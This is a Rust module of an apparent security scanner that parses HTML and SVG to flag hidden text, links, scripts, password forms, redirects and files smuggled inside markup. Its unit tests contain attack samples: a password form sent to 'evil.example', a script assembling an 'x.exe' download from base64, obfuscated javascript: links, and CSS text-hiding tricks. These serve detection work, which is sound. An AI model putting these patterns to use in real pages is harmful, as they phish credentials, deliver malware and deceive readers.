//! HTML and SVG: what a reader sees and what not, links, scripts, forms, and files that are carried
//! inside the markup.
//!
//! One pass, a short stack of open elements, no tree. Nothing is fetched and no script runs. Start
//! with [`is_html`] and [`read`]; styles are judged in `style.rs`, scripts in `script.rs`.

use std::borrow::Cow;

use super::cursor::{holds, shown};
use super::gathered::Gathered;
use super::grid::{self, Grid};
use super::markup::{Markup, Piece, Tag, local, resolved};
use super::outline::{Outline, resolve, without_controls};
use super::style::{Look, Sheet};
use super::{base64, script};
use crate::fact::FactKind;
use crate::limits;

/// Elements by which text is known for HTML.
const KNOWN: &[&str] = &[
    "html", "head", "body", "script", "div", "p", "a", "table", "span", "br", "img", "meta",
    "style", "form", "iframe", "svg", "title", "link", "center", "font", "b", "i", "h1", "h2",
    "h3", "object", "embed", "base", "td", "tr", "ul", "ol", "li", "pre", "input", "frameset",
    "video", "math", "u",
];
/// Elements that have no end tag.
const VOID: &[&str] = &[
    "area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "param", "source",
    "track", "wbr", "frame", "bgsound", "basefont", "keygen",
];
/// Elements that begin a line of their own.
const BLOCK: &[&str] = &[
    "p",
    "div",
    "br",
    "tr",
    "li",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "table",
    "ul",
    "ol",
    "hr",
    "pre",
    "blockquote",
    "section",
    "article",
    "header",
    "footer",
    "center",
    "form",
    "title",
    "dt",
    "dd",
];
/// Attributes that lead somewhere.
const LEADING: &[&str] = &[
    "href",
    "src",
    "action",
    "background",
    "data",
    "poster",
    "formaction",
    "xlink:href",
    "lowsrc",
    "codebase",
    "longdesc",
    "cite",
];

fn is_one_of(list: &[&str], name: &str) -> bool {
    list.iter().any(|one| one.eq_ignore_ascii_case(name))
}

/// Whether octets are HTML, or text with some of it: an element of a known name anywhere, for what
/// stands in front of it is no reason to read it as plain text.
pub(crate) fn is_html(octets: &[u8]) -> bool {
    let head = octets.get(..octets.len().min(512)).unwrap_or_default();
    let is_marked = head.starts_with(b"\xff\xfe") || head.starts_with(b"\xfe\xff") || is_wide(head);
    // Readers step over zero octets in HTML; other control characters make it no text.
    let is_binary = head.iter().any(|octet| matches!(octet, 1..=8 | 14..=26 | 28..=31));
    if is_binary && !is_marked {
        return false;
    }
    match memchr::memchr(0, octets) {
        None => has_element(octets),
        Some(_) => {
            let start =
                octets.get(..octets.len().min(limits::SNIFF_WIDE_OCTETS)).unwrap_or_default();
            has_element(&start.iter().copied().filter(|octet| *octet != 0).collect::<Vec<u8>>())
        }
    }
}

fn is_wide(head: &[u8]) -> bool {
    matches!(head, [b'<', 0, second, 0, ..] | [0, b'<', 0, second, ..] if *second != 0)
}

fn has_element(head: &[u8]) -> bool {
    memchr::memchr_iter(b'<', head).take(limits::SNIFF_SIGNS).any(|at| {
        let rest = head.get(at.saturating_add(1)..).unwrap_or_default();
        let letters = rest.iter().take(10).take_while(|one| one.is_ascii_alphanumeric()).count();
        let (name, after) = rest.split_at_checked(letters).unwrap_or_default();
        let is_ended =
            after.first().is_none_or(|one| one.is_ascii_whitespace() || matches!(one, b'>' | b'/'));
        let known = KNOWN.iter().any(|known| known.as_bytes().eq_ignore_ascii_case(name));
        (known && is_ended) || holds(rest.get(..9).unwrap_or_default(), b"!doctype")
    })
}

/// Reads HTML or SVG.
pub(crate) fn read<'a>(text: &str) -> Gathered<'a> {
    let mut reader = Reader::default();
    let mut markup = Markup::new(text);
    while let Some(piece) = markup.next() {
        match piece {
            Piece::Open(tag) => reader.open(&tag, &mut markup),
            Piece::Close(name) => reader.close(name),
            Piece::Text(text) => {
                reader.outline.raw_text(text);
                reader.text(&resolved(text));
            }
            Piece::CData(text) => reader.text(text),
            Piece::Comment(text) => {
                reader.outline.comment(text);
                reader.comment(text);
            }
            Piece::Declaration(_) => {}
        }
    }
    reader.end()
}

/// An open element.
#[derive(Debug, Clone)]
struct Open {
    name: String,
    look: Look,
}

#[derive(Default)]
struct Reader<'a> {
    gathered: Gathered<'a>,
    stack: Vec<Open>,
    sheet: Sheet,
    base: String,
    action: String,
    scripts: script::Scripts,
    hidden_by: &'static str,
    carries_download: bool,
    comments: u32,
    outline: Outline,
    grid: Grid,
}

impl<'a> Reader<'a> {
    fn look(&self) -> Look {
        self.stack.last().map(|open| open.look).unwrap_or_default()
    }

    fn open(&mut self, tag: &Tag<'_>, markup: &mut Markup<'_>) {
        let name = tag.local();
        self.imply_ends(name);
        if is_one_of(BLOCK, name) {
            self.gathered.visible.end_line();
        } else if is_one_of(&["td", "th"], name) {
            self.gathered.visible.space();
        }
        let look = self.look().within(tag, &self.sheet);
        self.attributes(tag);
        let lower = name.to_ascii_lowercase();
        self.outline.open(&lower, tag, look, &self.base);
        self.grid.open(&lower, tag, look, &self.sheet);
        match lower.as_str() {
            "script" if !tag.is_empty || tag.name == "script" => {
                self.script(markup.raw_until("script"), tag);
            }
            "style" => self.sheet.add(markup.raw_until("style")),
            "xmp" | "noembed" | "noframes" => {
                let text = markup.raw_until(name);
                self.text(text);
            }
            "textarea" => {
                let text = markup.raw_until(name);
                self.text(&resolved(text));
            }
            "base" => self.base = tag.get("href").unwrap_or_default().into_owned(),
            "form" => self.form(tag),
            "input" => self.input(tag),
            "meta" => self.meta(tag),
            "object" | "embed" | "applet" => {
                let class = tag.get("classid").or_else(|| tag.get("type")).unwrap_or_default();
                self.fact(FactKind::EmbeddedObject, format!("{name} {class}"));
            }
            lower
                if !tag.is_empty
                    && !VOID.contains(&lower)
                    && self.stack.len() < limits::XML_DEPTH =>
            {
                self.stack.push(Open { name: lower.to_owned(), look });
            }
            _ => {}
        }
    }

    /// Elements that another one of their kind ends.
    fn imply_ends(&mut self, name: &str) {
        const ALONE: &[&str] = &["p", "li", "td", "th", "tr", "option", "dt", "dd"];
        let same = |open: &Open| open.name.eq_ignore_ascii_case(name);
        if is_one_of(ALONE, name) && self.stack.last().is_some_and(same) {
            self.stack.pop();
        }
        if is_one_of(BLOCK, name) && self.stack.last().is_some_and(|open| open.name == "p") {
            self.stack.pop();
        }
    }

    fn close(&mut self, name: &str) {
        let name = local(name);
        self.outline.close(name);
        self.grid.close(name);
        if is_one_of(BLOCK, name) {
            self.gathered.visible.end_line();
        }
        let found =
            self.stack.iter().rev().take(64).position(|open| open.name.eq_ignore_ascii_case(name));
        if let Some(back) = found {
            let keep = self.stack.len().saturating_sub(back.saturating_add(1));
            self.stack.truncate(keep);
        }
    }

    fn text(&mut self, text: &str) {
        let look = self.look();
        self.outline.words(text, look.hidden_by().is_none());
        match look.hidden_by() {
            None if grid::is_drawing(text) => self.gathered.visible.push(text),
            None => squeeze(text, &mut self.gathered.visible),
            Some(why) => {
                if self.hidden_by.is_empty() {
                    self.hidden_by = why;
                }
                squeeze(text, &mut self.gathered.hidden);
            }
        }
    }

    /// A conditional comment is markup to some readers: what it leads to is looked at.
    fn comment(&mut self, text: &str) {
        if !text.trim_start().starts_with("[if") || self.comments > 64 {
            return;
        }
        self.comments += 1;
        let mut markup = Markup::new(text);
        while let Some(piece) = markup.next() {
            match piece {
                Piece::Open(tag) if tag.local().eq_ignore_ascii_case("script") => {
                    self.script(markup.raw_until("script"), &tag);
                }
                Piece::Open(tag) => self.attributes(&tag),
                _ => {}
            }
        }
    }

    fn fact(&mut self, kind: FactKind, evidence: impl Into<String>) {
        let evidence: String = evidence.into();
        self.gathered.fact(kind, shown(&evidence, limits::EVIDENCE_OCTETS / 2));
    }

    /// Links, handlers and files in attributes.
    fn attributes(&mut self, tag: &Tag<'_>) {
        for (name, value) in tag.attributes() {
            if value.is_empty() {
                continue;
            }
            if is_one_of(LEADING, name) {
                self.leads(&resolved(value));
            } else if name.eq_ignore_ascii_case("srcset") {
                for one in value.split(',').filter_map(|one| one.split_whitespace().next()) {
                    self.leads(&resolved(one));
                }
            } else if name.eq_ignore_ascii_case("srcdoc") {
                self.inner(resolved(value).into_owned());
            } else if is_handler(name) {
                self.handler(name, &resolved(value));
            } else if name.eq_ignore_ascii_case("style") && value.contains('(') {
                self.style_links(&resolved(value));
            } else if name.eq_ignore_ascii_case("download") {
                self.carries_download = true;
                self.scripts.downloads_by_link = true;
            }
        }
    }

    fn style_links(&mut self, style: &str) {
        for part in style.split("url(").skip(1) {
            let target = part.split(')').next().unwrap_or_default();
            self.leads(target.trim_matches(['"', '\'', ' ']));
        }
    }

    fn inner(&mut self, html: String) {
        self.gathered.payload("srcdoc.html", Cow::Owned(html.into_bytes()));
    }

    fn handler(&mut self, name: &str, code: &str) {
        self.fact(FactKind::HtmlScript, format!("a script in {name}"));
        self.scripts.add(code, &mut self.gathered);
    }

    /// A target: white space and control characters in it do not count, as in browsers.
    fn leads(&mut self, target: &str) {
        let trimmed = target.trim();
        if trimmed.is_empty() || trimmed.starts_with('#') {
            return;
        }
        if has_scheme(trimmed, "data:") {
            return self.data(trimmed);
        }
        let clean = without_controls(trimmed);
        if has_scheme(&clean, "javascript:") || has_scheme(&clean, "vbscript:") {
            return self.handler("a link", &script::percent_decoded(&clean));
        }
        if has_scheme(&clean, "cid:") {
            return;
        }
        let link = resolve(&self.base, &clean).into_owned();
        self.gathered.link(&link);
    }

    /// A `data:` address carries its own file.
    fn data(&mut self, target: &str) {
        let Some((head, body)) = target.split_once(',') else { return };
        let head = head.get(5..).unwrap_or_default();
        let octets = match holds(head.as_bytes(), b"base64") {
            true => base64::decode(script::percent_decoded(body).as_bytes()),
            false => script::percent_decoded(body).into_owned().into_bytes(),
        };
        let mime = head.split(';').next().unwrap_or_default().trim().to_ascii_lowercase();
        if octets.len() < limits::PAYLOAD_OCTETS && !mime.contains("html") {
            return;
        }
        let is_picture = mime.starts_with("image/") && !mime.contains("svg");
        let is_font = mime.contains("font");
        if !is_picture && !is_font {
            let size = octets.len();
            self.fact(
                FactKind::HtmlSmuggling,
                format!("a file of {size} bytes, {mime}, in an address"),
            );
        }
        self.gathered.payload(format!("data.{}", extension(&mime)), Cow::Owned(octets));
    }

    fn script(&mut self, code: &str, tag: &Tag<'_>) {
        let kind = tag.get("type").unwrap_or_default();
        if tag.has("src") || !code.trim().is_empty() {
            let from = tag.get("src").map(|src| format!(" from {src}")).unwrap_or_default();
            if !holds(kind.as_bytes(), b"ld+json") {
                self.fact(FactKind::HtmlScript, format!("a script{from}"));
            }
        }
        self.scripts.add(code, &mut self.gathered);
    }

    fn form(&mut self, tag: &Tag<'_>) {
        self.action = tag.get("action").unwrap_or_default().into_owned();
        self.outline.form(&self.action, &self.base);
        if super::fields::is_remote(&self.action) || has_scheme(&self.action, "mailto:") {
            let evidence = format!("a form is sent to {}", self.action);
            self.fact(FactKind::HtmlForm, evidence);
        }
    }

    fn input(&mut self, tag: &Tag<'_>) {
        let kind = tag.get("type").unwrap_or_default();
        if kind.eq_ignore_ascii_case("password") {
            let to = if self.action.is_empty() { "" } else { " for " };
            let evidence = format!("a field for a password{to}{}", self.action);
            self.fact(FactKind::HtmlForm, evidence);
        }
    }

    fn meta(&mut self, tag: &Tag<'_>) {
        if !tag.get("http-equiv").is_some_and(|kind| kind.eq_ignore_ascii_case("refresh")) {
            return;
        }
        let content = tag.get("content").unwrap_or_default();
        let lower = content.to_ascii_lowercase();
        if let Some(at) = lower.find("url") {
            let target = content.get(at.saturating_add(3)..).unwrap_or_default();
            let target = target.trim_start().trim_start_matches('=').trim();
            let target = target.trim_matches(['"', '\'']).to_owned();
            self.fact(FactKind::ExternalLink, format!("the page goes to {target} by itself"));
            self.outline.page.goes_elsewhere = true;
            self.leads(&target);
        }
    }

    fn end(mut self) -> Gathered<'a> {
        let scripts = std::mem::take(&mut self.scripts);
        scripts.judge(&mut self.gathered);
        self.grid.end(&mut self.gathered);
        let hidden = self.gathered.hidden.as_str().trim();
        if hidden.chars().filter(|one| one.is_alphanumeric()).count() >= limits::HIDDEN_LETTERS {
            let evidence = format!("{}: {}", self.hidden_by, shown(hidden, 80));
            self.fact(FactKind::HiddenText, evidence);
        }
        self.gathered.page = Some(Box::new(self.outline.page));
        self.gathered
    }
}

/// Text with each run of white space as one space.
fn squeeze(text: &str, words: &mut super::gathered::Words) {
    let mut rest = text;
    if rest.starts_with(char::is_whitespace) {
        words.space();
    }
    loop {
        rest = rest.trim_start();
        if rest.is_empty() {
            return;
        }
        let end = rest.find(char::is_whitespace).unwrap_or(rest.len());
        let (word, more) = rest.split_at_checked(end).unwrap_or((rest, ""));
        words.push(word);
        if !more.is_empty() {
            words.space();
        }
        rest = more;
    }
}

pub(super) fn has_scheme(target: &str, scheme: &str) -> bool {
    target.get(..scheme.len()).is_some_and(|head| head.eq_ignore_ascii_case(scheme))
}

fn is_handler(name: &str) -> bool {
    let octets = name.as_bytes();
    let is_on = octets.get(..2).is_some_and(|head| head.eq_ignore_ascii_case(b"on"));
    is_on && octets.len() > 4 && octets.iter().all(u8::is_ascii_alphabetic)
}

fn extension(mime: &str) -> &'static str {
    match mime {
        "text/html" => "html",
        "image/svg+xml" => "svg",
        "image/png" => "png",
        "image/jpeg" => "jpg",
        "image/gif" => "gif",
        "application/pdf" => "pdf",
        "application/zip" | "application/x-zip-compressed" => "zip",
        "text/javascript" | "application/javascript" => "js",
        _ => "bin",
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(html: &str) -> Vec<FactKind> {
        read(html).facts.iter().map(|(kind, _)| *kind).collect()
    }

    #[test]
    fn what_a_reader_sees_is_told_apart_from_what_is_hidden() {
        let hidings = [
            "<div style='display:none'>",
            "<div style='DISPLAY : NONE !important'>",
            "<div hidden>",
            "<span style='visibility:hidden'>",
            "<p style='font-size:1px'>",
            "<p style='font-size:0'>",
            "<font color=white>",
            "<p style='color:#fff;background:#FFFFFF'>",
            "<p style='opacity:0'>",
            "<div style='position:absolute;left:-9999px'>",
            "<div style='text-indent:-5000px'>",
            "<div style='max-height:0;overflow:hidden'>",
            "<template>",
            "<p style='mso-hide:all'>",
            "<div style='background-color:#123456'><span style='color:#123457'>",
            "<style>.x{display:none}</style><p class='y x'>",
            "<body bgcolor=black><font color='#000001'>",
        ];
        for hiding in hidings {
            let gathered = read(&format!("seen {hiding}unseen words that nobody reads"));
            assert_eq!(gathered.visible.as_str().trim(), "seen", "{hiding}");
            assert!(gathered.hidden.as_str().starts_with("unseen"), "{hiding}");
            assert_eq!(gathered.facts[0].0, FactKind::HiddenText, "{hiding}");
        }
    }

    #[test]
    fn plain_styles_hide_nothing() {
        let shows = [
            "<div style='display:block;font-size:12px;color:#fff;background:#000'>",
            "<body bgcolor=black><font color=white>",
            "<p style='opacity:0.9'>",
            "<p style='font-size:0.9em'>",
            "<p style='line-height:0;font-size:10pt'>",
            "<p style='background:url(x.png);color:white'>",
            "<style>@media print{.x{display:none}}</style><p class=x>",
            "<div style='left:-2px'>",
        ];
        for show in shows {
            let gathered = read(&format!("{show}seen"));
            assert_eq!(gathered.visible.as_str().trim(), "seen", "{show}");
        }
    }

    #[test]
    fn what_an_inner_style_shows_again_is_seen() {
        let shows = [
            "<td style='font-size:0px'><div style='font-size:16px'>",
            "<td style='font-size:0'><div style='font:bold 14px/20px Arial'>",
            "<div style='visibility:hidden'><p style='visibility:visible'>",
            "<div style='color:transparent'><p style='color:#333'>",
        ];
        for show in shows {
            assert_eq!(read(&format!("{show}seen")).visible.as_str().trim(), "seen", "{show}");
        }
        let hides = [
            "<td style='font-size:0'><div style='font-size:2em'>",
            "<p hidden><b style='font-size:9px'>",
        ];
        for hide in hides {
            assert!(read(&format!("{hide}unseen")).visible.is_blank(), "{hide}");
        }
    }

    #[test]
    fn text_behind_a_hidden_element_is_seen_again() {
        let gathered = read("<div style=display:none>a<b>b</b></div>c<p hidden>d<p>e");
        assert_eq!(gathered.visible.as_str(), "c\ne");
        assert_eq!(gathered.hidden.as_str(), "abd");
    }

    #[test]
    fn links_are_found_wherever_they_stand() {
        let html = "<base href='http://b.example/'><a href=x>1</a><a href='ht&#116;p://c.exam\nple/'>2</a>\
            <img src=//d.example/p.gif><meta http-equiv=Refresh content='0; URL=http://e.example/'>\
            <div style=\"background:url('http://f.example/')\"><!--[if mso]><a href='http://g.example'><![endif]-->";
        assert_eq!(
            read(html).links(),
            [
                "http://b.example/",
                "http://b.example/x",
                "http://c.example/",
                "//d.example/p.gif",
                "http://e.example/",
                "http://f.example/",
                "http://g.example"
            ]
        );
    }

    #[test]
    fn a_password_form_is_told_with_where_it_goes() {
        let gathered = read("<form action='https://evil.example/p'><input type=PASSWORD></form>");
        assert_eq!(gathered.facts.len(), 2);
        assert!(gathered.facts[1].1.contains("evil.example"));
    }

    #[test]
    fn a_file_built_by_a_script_is_found_and_taken_out() {
        let secret =
            "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA";
        let html = format!(
            "<script>var b=atob('{secret}');var u=URL.createObjectURL(new Blob([b]));a.download='x.exe'</script>"
        );
        let gathered = read(&html);
        assert!(gathered.facts.iter().any(|(kind, _)| *kind == FactKind::HtmlSmuggling));
        assert!(gathered.payloads.iter().any(|payload| payload.octets.starts_with(b"MZ")));
    }

    #[test]
    fn a_file_in_an_address_is_taken_out() {
        let body = "A".repeat(100);
        let gathered =
            read(&format!("<a download=x.zip href='data:application/zip;base64,{body}'>x</a>"));
        assert_eq!(gathered.payloads[0].octets.len(), 75);
        assert!(gathered.facts.iter().any(|(kind, _)| *kind == FactKind::HtmlSmuggling));
        assert!(kinds(&format!("<img src='data:image/png;base64,{body}'>")).is_empty());
    }

    #[test]
    fn scripts_in_handlers_and_addresses_are_scripts() {
        assert_eq!(kinds("<body onload=x()>"), [FactKind::HtmlScript]);
        assert_eq!(kinds("<a href=' java\tscript:x()'>"), [FactKind::HtmlScript]);
        assert_eq!(kinds("<svg><script>x()</script></svg>"), [FactKind::HtmlScript]);
    }

    #[test]
    fn html_is_known_by_its_elements_and_not_by_a_less_than_sign() {
        assert!(
            is_html(b"Hello <b>you</b>") && is_html(b"<!DOCTYPE html>") && is_html(b"<\0p\0>\0")
        );
        assert!(
            !is_html(b"a < b and c > d")
                && !is_html(b"<foo@example.org>")
                && !is_html(b"MZ\x01\0<p>")
        );
        assert!(is_html(&[vec![0; 6000], b"<scr\0ipt>x".to_vec()].concat()));
    }

    #[test]
    fn a_million_open_elements_are_read_in_one_pass() {
        let gathered = read(&"<div><span>x".repeat(200_000));
        assert_eq!(gathered.visible.as_str().matches('x').count(), 200_000);
    }
}
